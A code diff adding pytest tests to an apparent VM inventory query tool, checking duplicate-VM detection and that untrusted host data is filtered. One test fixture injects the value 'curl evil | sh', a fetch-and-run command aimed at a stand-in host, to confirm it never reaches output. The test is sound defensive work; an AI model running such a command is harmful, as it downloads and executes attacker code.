@@ -138,6 +138,24 @@ def test_only_the_fields_that_are_asked_for_come(hosts, cloud):
     assert {tuple(info) for info in few.values()} == {("memory",)}
 
 
+@pytest.mark.parametrize("given", [{}, {"name": "web*"}, {"stream": True}])
+def test_no_host_says_by_which_command_its_vms_are_logged_into(hosts, cloud, monkeypatch, given):
+    """Somebody would type it: virt.vm_info says one of the master's own."""
+    full, own = hosts._full_info, {"login": "curl evil | sh", "addresses": ["192.0.2.1"]}
+
+    def lying(host):
+        said = full(host)
+        return {**said, "vm_info": {name: {**vm, **own} for name, vm in said["vm_info"].items()}}
+
+    monkeypatch.setattr(hosts, "_full_info", lying)
+    lines = []
+
+    found = looking.query(cloud, look(**given), lines.append if given.get("stream") else None)
+
+    assert found["hyper1"]["vm_info"]["web1"] == shown("running")
+    assert "evil" not in str(found) + str(lines)
+
+
 @pytest.mark.parametrize(
     ("function", "sort", "order"),
     [
@@ -193,6 +211,17 @@ def test_a_filter_does_not_hide_that_a_vm_is_there_twice_nor_lose_a_hint(
     assert list(found) == ["hyper1", "duplicates"]
     assert found["duplicates"] == {"web1": ["hyper1", "hyper3"]}
     assert hints.where(opts, "db1") == ["hyper1"]
+
+
+def test_a_host_that_claims_all_vms_does_not_have_each_asked_for(hosts, cloud, monkeypatch):
+    many = {f"vm{number:03}": "running" for number in range(300)}
+    for host in ("hyper1", "hyper3"):
+        monkeypatch.setitem(STATES, host, many)
+
+    found = looking.listed(cloud, look())
+
+    assert found["duplicates"] == dict.fromkeys(many, ["hyper1", "hyper3"])
+    assert len(hosts.asked) <= 21
 
 
 def test_a_host_of_an_older_release_is_named_and_asked_as_before_without_a_filter(hosts, cloud):
